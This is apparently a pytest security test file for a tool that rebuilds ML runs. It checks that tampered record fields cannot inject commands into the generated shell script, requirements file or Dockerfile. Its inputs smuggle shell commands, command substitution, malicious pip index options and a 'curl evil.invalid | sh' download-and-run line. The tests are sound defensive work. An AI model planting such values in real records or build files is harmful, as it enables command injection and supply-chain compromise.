"""reproduce.sh, the Dockerfile and requirements.txt are built from quoted, validated values.

Each attack edits a real run's record as someone with write access to the artifact
store would; even when the user passes --trust-record, no record text becomes a
shell command, a pip option or a Dockerfile instruction.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest


def _reproduce(run, target: Path, *args: str):
    return run.cli("reproduce", run.run_id, "--dir", str(target), *args)


def test_a_newline_in_created_at_never_runs(mlflow_run, tmp_path: Path):
    """created_at is outside the digest (a timestamp): the record still verifies."""
    canary = tmp_path / "owned-created-at"
    doc = mlflow_run.manifest()
    doc["capture"]["created_at"] = f"2026-01-01\ntouch {canary}\n#"
    mlflow_run.write_manifest(doc)

    out = _reproduce(mlflow_run, tmp_path / "rebuilt", "--run")

    assert not canary.exists()
    assert out.returncode == 0, out.stdout + out.stderr
    script = (tmp_path / "rebuilt" / "reproduce.sh").read_text()
    assert "touch" not in script and "2026-01-01" not in script


@pytest.mark.parametrize(
    "edit",
    [
        # a machine-specific variable's value used to land in a `# note:` line
        lambda doc, canary: (
            doc["environment"]
            .setdefault("variables", {})
            .update({"CUDA_VISIBLE_DEVICES": f"0\ntouch {canary}\n#"})
        ),
        # a variable name used to be written unquoted into `export NAME=...`
        lambda doc, canary: (
            doc["environment"].setdefault("variables", {}).update({f"X=1; touch {canary}; Y": "1"})
        ),
        # an entry point that is not a script used to land in an `echo '...'` line
        lambda doc, canary: doc["code"].update(
            {"entry_point": f"-'; touch {canary}; echo '", "entry_module": None}
        ),
        # the working directory used to be pasted after `cd`
        lambda doc, canary: doc["code"].update({"cwd": f"$(touch {canary})"}),
    ],
    ids=["note-value", "variable-name", "entry-point-echo", "cwd"],
)
def test_record_text_never_becomes_a_command_even_with_trust_record(
    mlflow_run, tmp_path: Path, edit, request
):
    canary = tmp_path / "owned"
    doc = mlflow_run.manifest()
    edit(doc, canary)
    mlflow_run.write_manifest(doc, redigest=True)

    out = _reproduce(mlflow_run, tmp_path / "rebuilt", "--run", "--trust-record")

    assert not canary.exists(), out.stdout + out.stderr
    expected = {
        "note-value": 0,  # the value stays in the record, the run goes on
        "variable-name": 2,  # refused: not a shell identifier
        "entry-point-echo": 1,  # the script says there is nothing to run
        "cwd": 1,  # one quoted word: `cd` finds no such folder
    }[request.node.callspec.id]
    assert out.returncode == expected, out.stdout + out.stderr


def test_a_package_name_carrying_a_pip_option_is_refused(mlflow_run, tmp_path: Path):
    doc = mlflow_run.manifest()
    doc["environment"]["packages"].append(
        {
            "name": "numpy\n--index-url http://evil.invalid/simple",
            "version": "1.0",
            "source": "index",
        }
    )
    mlflow_run.write_manifest(doc, redigest=True)

    out = _reproduce(mlflow_run, tmp_path / "rebuilt", "--trust-record")

    assert out.returncode == 2, out.stdout + out.stderr
    assert "refusing the recorded package" in out.stderr and "numpy" in out.stderr
    assert not (tmp_path / "rebuilt" / "requirements.txt").exists()


@pytest.mark.parametrize(
    "package",
    [
        {
            "name": "numpy",
            "version": "1.0\n--extra-index-url http://evil.invalid",
            "source": "index",
        },
        {
            "name": "thing",
            "version": "1",
            "source": "archive",
            "url": "https://h/x.whl --trusted-host evil",
        },
    ],
    ids=["version", "url"],
)
def test_versions_and_urls_are_validated_before_requirements(mlflow_run, tmp_path: Path, package):
    doc = mlflow_run.manifest()
    doc["environment"]["packages"].append(package)
    mlflow_run.write_manifest(doc, redigest=True)

    out = _reproduce(mlflow_run, tmp_path / "rebuilt", "--trust-record")

    assert out.returncode == 2, out.stdout + out.stderr
    assert f"refusing the recorded package {package['name']}" in out.stderr


def test_the_dockerfile_holds_no_record_text(mlflow_run, tmp_path: Path):
    doc = mlflow_run.manifest()
    doc["environment"]["python"]["implementation"] = "PyPy\nRUN curl evil.invalid | sh"
    doc["environment"]["os"]["system"] = "Linux\nRUN touch /owned"
    doc["environment"]["variables"] = {"OMP_NUM_THREADS": "1\nRUN touch /owned $HOME"}
    mlflow_run.write_manifest(doc, redigest=True)

    out = _reproduce(mlflow_run, tmp_path / "rebuilt", "--trust-record")

    assert out.returncode == 0, out.stdout + out.stderr
    dockerfile = (tmp_path / "rebuilt" / "Dockerfile").read_text()
    instructions = [ln.split()[0] for ln in dockerfile.splitlines() if ln and ln[0] not in "# "]
    assert set(instructions) <= {"FROM", "LABEL", "ENV", "RUN", "WORKDIR", "COPY", "CMD"}
    lines = dockerfile.splitlines()
    assert not [ln for ln in lines if "evil.invalid" in ln or ln.startswith("RUN touch")], (
        dockerfile
    )
    assert 'ENV OMP_NUM_THREADS="1\\nRUN touch /owned \\$HOME"' in dockerfile


def test_a_python_version_that_is_not_one_never_reaches_from(mlflow_run, tmp_path: Path):
    doc = mlflow_run.manifest()
    doc["environment"]["python"]["version"] = "3.11\nRUN touch /owned"
    mlflow_run.write_manifest(doc, redigest=True)

    out = _reproduce(mlflow_run, tmp_path / "rebuilt", "--trust-record", "--json")

    assert out.returncode == 0, out.stdout + out.stderr
    dockerfile = (tmp_path / "rebuilt" / "Dockerfile").read_text()
    assert "touch" not in dockerfile
    assert "FROM python:3-slim" in dockerfile
    assert json.loads(out.stdout)["record"]["trust_record"] is True
